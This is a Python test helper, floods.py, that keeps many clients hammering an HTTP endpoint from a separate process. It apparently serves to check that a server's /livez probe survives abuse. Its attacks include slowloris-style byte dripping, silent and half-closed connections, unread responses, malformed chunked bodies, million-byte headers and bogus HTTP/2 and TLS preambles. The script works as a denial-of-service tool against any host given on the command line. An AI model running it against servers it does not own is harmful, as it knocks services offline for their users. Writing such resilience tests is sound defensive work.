"""Clients that try to keep an HTTP endpoint from its work, in a process of their own.

`python floods.py HOST PORT COUNT [KIND]` keeps so many of them at it, of one kind or of all in turn.
"""

from __future__ import annotations

import asyncio
import socket
import sys
from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING, Any, Final, cast

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable, Coroutine, Mapping

    Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Coroutine[Any, Any, None]]

_PAUSE: Final = 0.2
"""Seconds before a client comes back; the probes must suffer from what it does, not from a busy machine."""

_PROBE: Final = b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n"
_REQUEST: Final = b"GET /status HTTP/1.1\r\nHost: x\r\n\r\n"


async def _hold(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
    """Say nothing, as somebody does who has vanished without a word."""
    await reader.read()


async def _drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send the head byte by byte, without an end."""
    writer.write(b"GET /livez HTTP/1.1\r\nHost: ")
    while not reader.at_eof():
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(_PAUSE)


async def _half_close(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_REQUEST[:9])
    writer.write_eof()
    await reader.read()


async def _refuse_answer(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Ask for much, and never read it."""
    cast("asyncio.Transport", writer.transport).pause_reading()
    writer.write(_REQUEST)
    await asyncio.sleep(3600)


def _send(data: bytes) -> Attack:
    async def send(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(data)
        await reader.read()

    return send


_CHUNKED: Final = b"POST /livez HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"

ATTACKS: Final[Mapping[str, Attack]] = {
    "silent": _hold,
    "slow head": _drip,
    "half-closed": _half_close,
    "answer never read": _refuse_answer,
    "pipelined garbage": _send(_PROBE * 50 + b"\0\xff" * 1000),
    "broken chunks": _send(_CHUNKED + b"ZZZZ\r\n"),
    "chunks that break later": _send(_CHUNKED + b"1\r\nx\r\n" * 1000 + b"-1\r\n"),
    "endless head": _send(b"GET /livez HTTP/1.1\r\nX: " + b"y" * 1_000_000),
    "many headers": _send(b"GET /livez HTTP/1.1\r\n" + b"X: y\r\n" * 100_000),
    "endless body": _send(b"POST /livez HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n" + b"y" * 1_000_000),
    "expected body": _send(b"POST /livez HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\nExpect: 100-continue\r\n\r\n"),
    "websocket": _send(b"GET /livez HTTP/1.1\r\nHost: x\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n"),
    "HTTP/2": _send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "TLS": _send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 512),
    "no path": _send(b"GET http://[::1/%ff%00 HTTP/1.1\r\nHost: \xff\r\n\r\n"),
}


async def dial(host: str, port: int, source: str = "") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Connect by IPv4, as a client for which the kernel keeps little that it has not read."""
    connection = socket.socket()
    try:
        connection.setblocking(False)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.bind((source, 0))
        await asyncio.get_running_loop().sock_connect(connection, (host, port))
        return await asyncio.open_connection(sock=connection)
    except BaseException:
        connection.close()
        raise


async def attack_once(host: str, port: int, attack: Attack) -> None:
    """Connect and do harm, until the other side has had enough."""
    with suppress(OSError):
        reader, writer = await dial(host, port)
        try:
            await attack(reader, writer)
        finally:
            writer.transport.abort()


async def _attack_forever(host: str, port: int, attack: Attack) -> None:
    while True:
        # One that does not read would not find out that it was closed, and so comes back in any case.
        with suppress(TimeoutError):
            await asyncio.wait_for(attack_once(host, port, attack), 2)
        await asyncio.sleep(_PAUSE)


async def _flood(host: str, port: int, kinds: list[Attack], count: int) -> None:
    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(_attack_forever(host, port, kinds[number % len(kinds)]))
        await asyncio.sleep(0.05)
        sys.stdout.write("flooding\n")
        sys.stdout.flush()


@asynccontextmanager
async def flooding(host: str, port: int, count: int, *kind: str) -> AsyncIterator[None]:
    """Keep at it as long as the context lasts."""
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, __file__, host, str(port), str(count), *kind), stdout=asyncio.subprocess.PIPE
    )
    try:
        assert process.stdout
        assert await process.stdout.readline() == b"flooding\n"
        yield
    finally:
        process.kill()
        await process.wait()


if __name__ == "__main__":
    _host, _port, _count, *_kinds = sys.argv[1:]
    asyncio.run(_flood(_host, int(_port), [ATTACKS[kind] for kind in _kinds or ATTACKS], int(_count)))
